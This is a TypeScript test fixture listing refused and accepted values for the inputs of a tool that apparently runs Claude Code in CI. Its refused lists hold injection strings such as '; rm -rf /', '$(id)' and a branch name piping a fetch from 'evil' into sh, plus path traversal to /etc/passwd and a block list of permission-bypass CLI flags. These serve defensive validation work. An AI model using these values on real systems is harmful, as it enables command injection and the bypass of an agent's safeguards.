import { expression } from '../../src/core/inputs/input.ts'

const long = (length: number, letter = 'a') => letter.repeat(length)
const json = (...strings: string[]) => JSON.stringify(strings)

/** Values that must be refused, with the row of the table of bad inputs or the field case they come from: each with exactly one problem that names the input. */
// biome-ignore format: rows
export const refused: readonly { input: string; row: string; values: readonly string[] }[] = [
  {
    input: 'max-iterations',
    row: 'row 1',
    values: [
      '0', '-1', '1.5', '1e3', '0x10', '٣', '999999', '101', '+5', '1_0', 'ten', 'NaN', 'Infinity', '5 5', '10,',
      '１０', '0b11', '-0', '1/2', '∞', 'null', 'true', '10;', '5\n5', long(400, '9'),
    ],
  },
  { input: 'max-turns', row: 'F3', values: ['1', '0', '501', '-3', '2.5', 'unlimited', '1e2'] },
  { input: 'budget-turns', row: 'row 1', values: ['0', '1', '50001', 'x', '1.0'] },
  {
    input: 'budget-usd',
    row: 'row 2, F24',
    values: [
      'NaN', 'Infinity', '-5', '1,5', '$5', '0', '0.0', '10000.01', '10001', '5$', '5 USD', '5usd', '€5',
      'abc', '1e1', '.5', '5.', '1.2.3', '1,000', '1,000.50', '0x5', '+1', '-0', '--5', '٥', '5 5', 'five',
      '5%',
    ],
  },
  {
    input: 'budget-minutes',
    row: 'row 3, F24',
    values: ['0', '100000', '4320.5', '0.5', '-1', 'abc', '1,5', '1h', '60m', '1e2', '01:00', 'none'],
  },
  { input: 'idle-minutes', row: 'row 3', values: ['0', '121', '0.9', '-1', 'never', '12 min'] },
  { input: 'verify-timeout-minutes', row: 'row 3', values: ['0', '0.05', '361', '-1', '30s', 'x'] },
  { input: 'job-timeout-minutes', row: 'row 3', values: ['0', '5', '5.5', '5.99', '43201', 'x', '-60'] },
  { input: 'wind-down-at', row: 'row 1', values: ['49', '96', '0.8', '80%', '100', '-80', '8e1'] },
  { input: 'confirmations', row: 'row 1', values: ['0', '11', 'Auto', 'three', '1.0', '-1', 'automatic'] },
  {
    input: 'anthropic-api-key',
    row: 'row 5',
    values: [
      'Bearer sk-ant-api03-abcdefgh', 'bearer  sk-ant-api03-abcdefgh', 'sk-ant-\nabcdefgh',
      'sk-ant abcdefgh', '"sk-ant-api03-abcdefgh"', "'sk-ant-api03-abcdefgh'", '`sk-ant-abcdefgh`',
      'sk-ant-\u200babcdefgh', 'sk-ant-schlüssel', 'sk-ant-\u0000abcdef', '$ANTHROPIC_API_KEY',
      'sk-ant-oat01-abcdefgh', long(8193), 'key1\r\nX-Evil: 1', expression('secrets.ANTHROPIC_API_KEY'),
      'sk-ant-\tabcdefgh', '🔑🔑🔑🔑🔑🔑🔑🔑',
    ],
  },
  {
    input: 'github-token',
    row: 'row 5',
    values: ['Bearer ghs_abcdefghijk', 'ghs_abc def', '"ghs_abcdefgh"', '$TOKEN'],
  },
  {
    input: 'task',
    row: 'row 92',
    values: ['do\0it', long(65_537), long(22_000, '課'), '...', '\u200b\u200b', '\u{e0041}', '-- --', '🚀🚀'],
  },
  {
    input: 'task-file',
    row: 'rows 19 and 37',
    values: [
      '../../etc/passwd', '../x', 'a/../../b', 'a/..', '..', '/etc/passwd', 'C:\\task.md', 'C:task.md',
      'c:/x', 'a\\b', '~/task.md', '~', '-rf', '--help', '.git/config', 'a/.GIT/config', 'a\0b', 'a\nb',
      'a\tb', '\x7f', '\\\\server\\share', long(256), `${long(200)}/`.repeat(21),
    ],
  },
  {
    input: 'working-directory',
    row: 'row 20',
    values: ['..', '../other', '/tmp', 'C:\\', 'a/../..', '.git', '-C', '~', 'a\\b', 'a\r\nb'],
  },
  {
    input: 'verify',
    row: 'rows 7 and 9',
    values: [long(8193), long(100_000), 'npm\0test', 'none', 'NONE', '!!!', '課'.repeat(2731)],
  },
  {
    input: 'verify-env',
    row: 'T13',
    values: [
      'A=b', 'MY-VAR', '1A', '*', 'A B', '$A', 'A,,B', 'A,', ',A', 'É', '-x', '--env', long(129, 'A'),
      'A;B', '__proto__=1', 'ANTHROPIC_API_KEY', 'anthropic_api_key', 'ANTHROPIC_AUTH_TOKEN',
      'CLAUDE_CODE_OAUTH_TOKEN', 'GITHUB_ENV', 'GITHUB_PATH', 'GITHUB_OUTPUT', 'GITHUB_STEP_SUMMARY',
      'GITHUB_STATE', 'ACTIONS_RUNTIME_TOKEN', 'A,GITHUB_ENV',
    ],
  },
  {
    input: 'test-report',
    row: 'row 48',
    values: [
      '(a+)+', '{a,{b,{c}}}', '{a,{b,{c', '+(a|b)*', '@(a|b)', '!(a)', '!x.xml', '/x.xml', '../x.xml',
      'a/../x.xml', 'C:\\x.xml', 'a\\*.xml', '~/x.xml', '-x', long(201), '*a*a*a*a*a*', 'a}b', 'a{b',
      'x\0', 'x\ny', '}{',
    ],
  },
  {
    input: 'protected-paths',
    row: 'rows 19 and 47',
    values: [
      '**', '*', '**/*', '**/**', './**', '.', './', '**/', '!.github/**', 'src/**,!src/a', '../../x',
      '/x', 'C:\\', 'a,,b', ',', 'a,', ',a', 'a\nb,,c', 'a,(b', 'a)b', '{a,b', '(a+)+', long(201), 'a\0b',
      '~/x', 'a\\b', '-rf', Array.from({ length: 201 }, (_, index) => `f${index}`).join(','),
    ],
  },
  {
    input: 'goal',
    row: 'one of',
    values: ['Auto', 'GREEN', 'red', 'auto,green', 'changes', '1', '__proto__', 'toString'],
  },
  { input: 'tests', row: 'one of', values: ['Additive', 'none', 'freeze', 'true', 'additve'] },
  { input: 'effort', row: 'one of', values: ['High', 'maximum', '3', 'med', 'ultra'] },
  {
    input: 'model',
    row: 'row 15, T13',
    values: [
      '; rm -rf /', '--resume', '-m', '--dangerously-skip-permissions', 'Opus', 'claude sonnet',
      'opus\nsonnet', '$(id)', '`id`', '.opus', ':x', '[1m]', 'opus;ls', 'opus|x', '../opus', long(82),
      'моdel', 'opus\0', 'a/b', '"opus"',
    ],
  },
  { input: 'fallback-model', row: 'row 15', values: ['--model', 'sonnet,haiku', 'Haiku', 'a b'] },
  {
    input: 'allowed-tools',
    row: 'T13',
    values: [
      'bash', 'bash(ls)', 'Bash(ls', 'Bash)', 'Bash()', 'Bash Edit', '--tools', '*', 'Edit,,Write',
      'Bash(a)b', '1x', 'mcp__',
    ],
  },
  { input: 'disallowed-tools', row: 'T13', values: ['webfetch', '-x', 'Edit;Write', 'all tools'] },
  {
    input: 'claude-path',
    row: 'F70',
    values: [
      'claude', './claude', 'node_modules/.bin/claude', '~/claude', '/a/../b', '-x', 'C:\\claude.exe',
      '/a\0b', '/a\nb',
    ],
  },
  {
    input: 'claude-args',
    row: 'rows 16 and 17, T13',
    values: [
      '--dangerously-skip-permissions', '--verbose', '{}', '"--verbose"', '[1]', '[null]', '[["--verbose"]]', '[',
      'null', "['--verbose']", '[true,"--verbose"]', '["--verbose",]', json('--verbose', 'a\0b'),
      json(...Array(51).fill('--verbose')), json('--verbose', '--settings', '/x'), json('--betas', 'x', '-p'),
      json('do something else'), json(''),
      ...[
        '--dangerously-skip-permissions', '--allow-dangerously-skip-permissions', '--settings', '--setting-sources',
        '--settings={"env":{}}', '--mcp-config', '--mcp-config=x', '--add-dir', '--permission-mode',
        '--permission-prompts', '--permission-mode=bypassPermissions', '--permission-prompt-tool', '--plugin-dir',
        '--plugin-url=http://x', '--resume', '--continue', '--bare', '--safe-mode', '--restricted', '--tools',
        '--tools=default', '--allowedTools', '--allowed-tools', '--disallowedTools', '--disallowed-tools=x',
        '--output-format', '--output-format=json', '--input-format', '--print', '-p', '-c', '-r', '-pc', '-rabc',
        '-d', '-h', '-v', '-w', '-', '--', '--max-turns', '--max-turns=0', '--max-budget-usd', '--system-prompt',
        '--system-prompt-file', '--system-prompt=x', '--append-system-prompt', '--append-system-prompt-file',
        '--session-id', '--fork-session', '--agents', '--agent', '--model', '--model=opus', '--fallback-model',
        '--effort', '--SETTINGS', '--Settings=x', '--sdk-url=ws://x', '--worktree', '--background', '--bg',
        '--remote-control', '--json-schema', '--managed-settings', '--version',
      ].map((flag) => json(flag)),
    ],
  },
  {
    input: 'anthropic-base-url',
    row: 'T13',
    values: [
      'http://gateway.example.com', 'ftp://x', 'gateway.example.com', 'https://', 'https://u:p@x.example',
      'https://x y', 'http://localhost.evil.example', 'http://127.0.0.1.evil.example', 'http://10.0.0.1',
      'http://0.0.0.0', 'javascript:1', 'file:///etc/passwd', 'https://x.example?a=b',
      'https://x.example#a', 'https://x\nhttps://y', '//x.example', '-x',
    ],
  },
  {
    input: 'branch',
    row: 'row 10, row 11, T13, T14, F44',
    values: [
      'main', 'Main', 'MASTER', 'master', 'gh-pages', 'refs/heads/main', 'refs/heads/ralph/x',
      'Refs/heads/x', 'HEAD', 'head', '-D', '--upload-pack=touch x', '-rf', 'a..b', 'a b', 'a~1', 'x.lock',
      'ralph/x.lock', 'x.lock/y', 'é', '课题', '🚀🚀', 'a/', '/a', 'a//b', '@{u}', 'a@{1}', '@',
      'ralph/../main', 'ralph/main\u0000', 'a\nb', 'a^', 'a:b', 'a?', 'a*', 'a[b', 'a\\b', '.a', 'a/.b',
      'a.', 'a..', long(201), long(300), 'a";curl evil|sh;"', '$(id)', 'a%0Ab', "a'b", 'a\tb', 'a|b',
      'a..b~^: ?*[\\', 'a&b', '_a', 'a\x7f',
    ],
  },
  {
    input: 'base',
    row: 'row 12',
    values: [
      'refs/heads/main', 'refs/tags/v1', 'HEAD', '-b', 'a..b', 'a b', 'a^', 'main~1', 'x.lock', '@{u}',
      'a/', long(201), long(40, 'a'), '0123456789abcdef0123456789abcdef01234567', long(64, 'f'), 'main\0',
      'a\\b', '.',
    ],
  },
  {
    input: 'author',
    row: 'T13',
    values: [
      'Ralph', 'ralph@example.com', '<ralph@example.com>', 'Ralph ralph@example.com', 'Ralph <ralph>',
      'Ralph <>', 'Ralph <a@b> x', 'A\nB <a@b>', 'Ralph <a b@c>', 'Ralph <a@b@c>', '... <a@b>',
      'R <a@b\0>', 'R<x> <a@b>',
    ],
  },
  {
    input: 'fail-on',
    row: 'one of',
    values: [
      'SUCCESS', 'success', 'BLOCKED,,CANCELLED', 'BLOCKED SETUP_FAILED', 'NONE', 'none,BLOCKED', 'all',
      'BLOCKD', '*', 'toString',
    ],
  },
  {
    input: 'dry-run',
    row: 'row 14, F60',
    values: [
      'yes', 'no', '1', '0', 'on', 'off', 'banana', 'y', 'truee', 'true,', '"true"', 'null', 'undefined',
    ],
  },
  { input: 'upload-transcript', row: 'row 14, F60', values: ['yes', 'on', '1', 'enabled'] },
]

/** Values that must be accepted, and what they become. */
// biome-ignore format: rows
export const accepted: readonly { input: string; values: readonly (readonly [string, unknown])[] }[] = [
  {
    input: 'max-iterations',
    values: [
      ['1', 1], ['100', 100], [' 5 ', 5], ['\t7\n', 7], ['010', 10], ['\u00a08', 8], ['', 10], [' ', 10],
    ],
  },
  { input: 'max-turns', values: [['2', 2], ['500', 500], ['', 40]] },
  { input: 'budget-turns', values: [['2', 2], ['50000', 50_000], ['', null]] },
  {
    input: 'budget-usd',
    values: [['0.01', 0.01], ['5', 5], ['5.0', 5], ['10000', 10_000], [' 2.5 ', 2.5], ['', 5]],
  },
  {
    input: 'budget-minutes',
    values: [['1', 60_000], ['1.5', 90_000], ['4320', 259_200_000], ['', 3_600_000]],
  },
  { input: 'idle-minutes', values: [['1', 60_000], ['120', 7_200_000], ['', 720_000]] },
  { input: 'verify-timeout-minutes', values: [['0.1', 6000], ['360', 21_600_000], ['', 1_800_000]] },
  { input: 'job-timeout-minutes', values: [['6', 360_000], ['', null]] },
  { input: 'wind-down-at', values: [['50', 50], ['95', 95], ['', 80]] },
  { input: 'confirmations', values: [['auto', 'auto'], ['1', 1], ['10', 10], ['', 'auto']] },
  { input: 'anthropic-api-key', values: [[' sk-ant-fake \n', 'sk-ant-fake'], ['x', 'x']] },
  { input: 'github-token', values: [['ghs_abcdefghijk', 'ghs_abcdefghijk'], ['', null]] },
  {
    input: 'task',
    values: [
      ['  Fix it  ', 'Fix it'], ['a\r\nb\rc', 'a\nb\nc'], ['/deploy now', '/deploy now'],
      ['--dangerously-x', '--dangerously-x'], ['%0A {{ x }} $(x)', '%0A {{ x }} $(x)'],
      ['x\ud800y', 'x\ufffdy'], ['课题', '课题'], [long(65_536), long(65_536)],
    ],
  },
  {
    input: 'verify',
    values: [
      ['npm test; curl evil', 'npm test; curl evil'], ['npm ci\r\nnpm test', 'npm ci\nnpm test'],
      [long(8192), long(8192)],
    ],
  },
  {
    input: 'verify-env',
    values: [
      ['A', ['A']], ['A, b_2,A', ['A', 'b_2']], ['A\nB\n\n C ', ['A', 'B', 'C']], ['A,\nB', ['A', 'B']],
      ['', null],
    ],
  },
  {
    input: 'test-report',
    values: [
      ['reports/**/*.xml', 'reports/**/*.xml'], ['./x.xml', 'x.xml'],
      ['a/{b,c}/*.[xX]ml', 'a/{b,c}/*.[xX]ml'],
    ],
  },
  {
    input: 'protected-paths',
    values: [
      ['src/{a,b}/**, x?.sh', ['src/{a,b}/**', 'x?.sh']], ['a b/c\nd', ['a b/c', 'd']],
      ['**/*.snap', ['**/*.snap']], ['./scripts/**', ['scripts/**']],
    ],
  },
  { input: 'goal', values: [['green', 'green'], ['change', 'change'], ['', 'auto']] },
  { input: 'tests', values: [['free', 'free'], ['frozen', 'frozen'], ['', 'additive']] },
  { input: 'effort', values: [['low', 'low'], ['xhigh', 'xhigh'], ['max', 'max'], ['', null]] },
  {
    input: 'model',
    values: ['opus', 'claude-opus-5-5', 'opus[1m]', 'us.anthropic.claude-x-v1:0', long(81)].map(
      (name) => [name, name] as const,
    ),
  },
  {
    input: 'allowed-tools',
    values: [
      ['Bash(npm test *), Edit(./**)', ['Bash(npm test *)', 'Edit(./**)']],
      ['Bash(git log --format=a,b)\nRead', ['Bash(git log --format=a,b)', 'Read']],
      ['mcp__docs__find', ['mcp__docs__find']],
    ],
  },
  { input: 'claude-path', values: [['/opt/claude code/claude', '/opt/claude code/claude']] },
  {
    input: 'claude-args',
    values: [
      ['[]', []], [json('--verbose', '--betas', 'a b'), ['--verbose', '--betas', 'a b']],
      [json('--debug=hooks'), ['--debug=hooks']],
    ],
  },
  {
    input: 'anthropic-base-url',
    values: [
      ['https://gateway.example.com/', 'https://gateway.example.com'],
      ['https://x.example/v1/', 'https://x.example/v1'],
      ['http://127.0.0.1:8080', 'http://127.0.0.1:8080'], ['http://localhost:1', 'http://localhost:1'],
      ['http://[::1]:9', 'http://[::1]:9'],
    ],
  },
  {
    input: 'branch',
    values: ['ralph/fix-api', 'fix_1.2', 'R/x', long(200)].map((name) => [name, name] as const),
  },
  {
    input: 'base',
    values: ['main', 'release/1.x', 'feature#1', 'é', 'a@b', '_x'].map((name) => [name, name] as const),
  },
  {
    input: 'author',
    values: [
      ['R. Alph  <r@x.y>', { name: 'R. Alph', email: 'r@x.y' }],
      ['É (x) <a+b@c>', { name: 'É (x)', email: 'a+b@c' }],
    ],
  },
  {
    input: 'fail-on',
    values: [
      ['none', 'none'], ['BLOCKED, CANCELLED', ['BLOCKED', 'CANCELLED']],
      ['BLOCKED\nBLOCKED', ['BLOCKED']], ['', null],
    ],
  },
  {
    input: 'working-directory',
    values: [
      ['.', '.'], ['./', '.'], ['./a//b/', 'a/b'], ['packages/api', 'packages/api'], ['', '.'],
    ],
  },
  {
    input: 'task-file',
    values: [
      ['docs/task.md', 'docs/task.md'], ['./a..b', 'a..b'], ['.github/x.md', '.github/x.md'],
      ['a b.md', 'a b.md'],
    ],
  },
  {
    input: 'dry-run',
    values: [
      ['true', true], ['True', true], ['TRUE', true], ['false', false], ['False', false], ['FALSE', false],
      ['', false],
    ],
  },
]
